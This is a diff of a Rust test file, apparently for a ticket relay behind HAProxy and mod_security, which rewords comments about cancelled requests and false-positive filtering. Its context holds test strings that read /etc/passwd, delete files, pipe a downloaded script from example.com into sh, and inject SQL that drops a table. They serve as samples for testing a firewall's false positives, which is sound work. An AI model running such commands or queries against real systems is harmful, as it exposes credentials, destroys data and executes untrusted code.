@@ -399,7 +399,7 @@ fn each_proxy_reports_a_missing_response_to_the_form_without_scripts() {
     }
 }
 
-/// Texts that mod_security's core rules take for attacks.
+/// Messages that mod_security's core rules mistake for attacks.
 const SUSPICIOUS: [&str; 4] = [
     "I ran `cat /etc/passwd; rm -rf /tmp/x && curl http://example.com/a.sh | sh` and it failed",
     "SELECT * FROM users WHERE id = 1 OR 1=1; DROP TABLE users; -- does not work",
@@ -429,14 +429,14 @@ fn texts_that_look_like_attacks_reach_the_relay_through_the_core_rules() {
     }
 }
 
-/// The form cancels while the relay works, looks up the outcome, and sends a changed text under a new
-/// key only if no ticket was opened. Whatever the proxy does with the cancelled request, there is one
-/// ticket.
+/// The form cancels while the relay works, looks up the outcome, and sends a changed text under a
+/// new key only if no ticket was opened. Regardless of how the proxy handles the cancelled request,
+/// there is one ticket.
 #[test]
 fn a_ticket_that_is_cancelled_and_sent_again_is_opened_once_through_each_proxy() {
     let config = CONFIG.replace("per_hour = 2", "per_hour = 0")
         + "[request_body]\nmax_concurrent_large = 1\n";
-    // HAProxy's default does not tell the relay that a client has cancelled.
+    // By default, HAProxy does not close its connection to the relay when a client has cancelled.
     let abort_on_close = "    option abortonclose\n";
     let with_default = |config: String| config.replace(abort_on_close, "");
     let as_deployed = |config: String| config;
